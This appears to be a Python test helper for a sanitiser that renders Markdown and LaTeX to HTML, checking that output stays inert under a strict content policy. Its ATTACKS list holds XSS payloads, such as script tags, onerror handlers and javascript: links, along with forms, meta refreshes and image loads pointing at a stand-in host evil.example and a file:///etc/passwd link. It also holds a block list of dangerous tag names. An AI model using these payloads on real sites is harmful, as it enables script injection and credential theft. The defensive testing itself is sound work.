"""Texts that would become markup where they are not escaped, and what a browser makes of HTML."""

import re
import warnings

from bleach._vendor import html5lib

NAMES = ("script", "svg", "iframe", "object", "embed", "form", "input", "button", "meta", "link", "base", "video",
         "audio", "template", "textarea")  # fmt: skip
ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<form action=https://evil.example><input name=password></form>",
    "<style>body { background: url(https://evil.example/x.png) }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example>",
    "<iframe src=https://evil.example></iframe>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><img src=https://evil.example/x.png></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    r"$\text{<form action='https://evil.example'><input></form>}$",
    r"$\text{<img src=https://evil.example/x.png>}$",
    r"$$\text{<meta http-equiv=refresh content='0;url=https://evil.example'>}$$",
    r"$\mathrm{<script>alert(1)</script>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"\(\text{<img src=x>}\)",
    r"\\(\text{<img src=x>}\\)",
    r"\[\text{<img src=x>}\]",
    r"\\[\text{<img src=x>}\\]",
    r"\begin{equation}\text{<img src=x>}\end{equation}",
    "![x](https://evil.example/x.png)",
    "![x](../secret.png)",
    "![x](attachment:none.png)",
    "[x](javascript:alert(1))",
    "[x](https://evil.example)",
    "https://evil.example/path",
    "<https://evil.example>",
    "[x]: https://evil.example\n[x]",
    "```mermaid\n<img src=x>\n```",
    "    <img src=x>",
    "# heading\n\n---\n\n- list\n\n1. list\n\n> quote",
    "| a | b |\n|---|---|\n| c | d |",
    "**bold** _it_ `code` ~~gone~~ a_b_c a*b*c",
    "&lt;img src=x&gt; &amp; &#36;x&#36;",
    "\\$x\\$ \\\\ \\",
    "a ' \" & < > b",
    r"$\frac{$",
    "1. first",
    "- [ ] task",
    "x == y, 66.9 % of 3,200: 'yes'",
]


def tree_of(html):
    """What a browser makes of a page: names, attributes and text, by another parser than that of `clean_html`."""
    with warnings.catch_warnings(action="ignore"):
        return html5lib.HTMLParser(namespaceHTMLElements=False).parse(html)


def elements(html):
    for one in tree_of(html).iter():
        if isinstance(one.tag, str):
            yield (
                one.tag.rpartition("}")[2],
                {str(name).rpartition("}")[2]: value for name, value in one.attrib.items()},
            )


def text_of(html):
    return "".join(tree_of(html).itertext())


def assert_harmless(html):
    """Nothing of a page loads, runs or sends anything, or leads to where it should not."""
    for name, attributes in elements(html):
        assert name not in NAMES or (name, attributes) in OWN, (name, attributes)
        assert not [one for one in attributes if one.startswith("on") or one in ("action", "srcset", "xlink:href")]
        if name == "img":
            assert attributes["src"].startswith("data:image/")
        if "href" in attributes and name != "link":
            is_table = "download" in attributes and re.fullmatch(CSV, attributes["href"])
            assert is_table or re.match(r"#|https?://|[\w.%-]+\.html", attributes["href"]), attributes
        assert "url(" not in attributes.get("style", "")


CSV = r"data:text/csv;charset=utf-8;base64,[\w+/=]*"
CSP = "default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"
OWN = [
    ("meta", {"charset": "utf-8"}),
    ("meta", {"name": "viewport", "content": "width=device-width, initial-scale=1"}),
    ("meta", {"name": "color-scheme", "content": "light dark"}),
    ("meta", {"http-equiv": "Content-Security-Policy", "content": CSP}),
    ("link", {"rel": "icon", "href": "data:,"}),
]
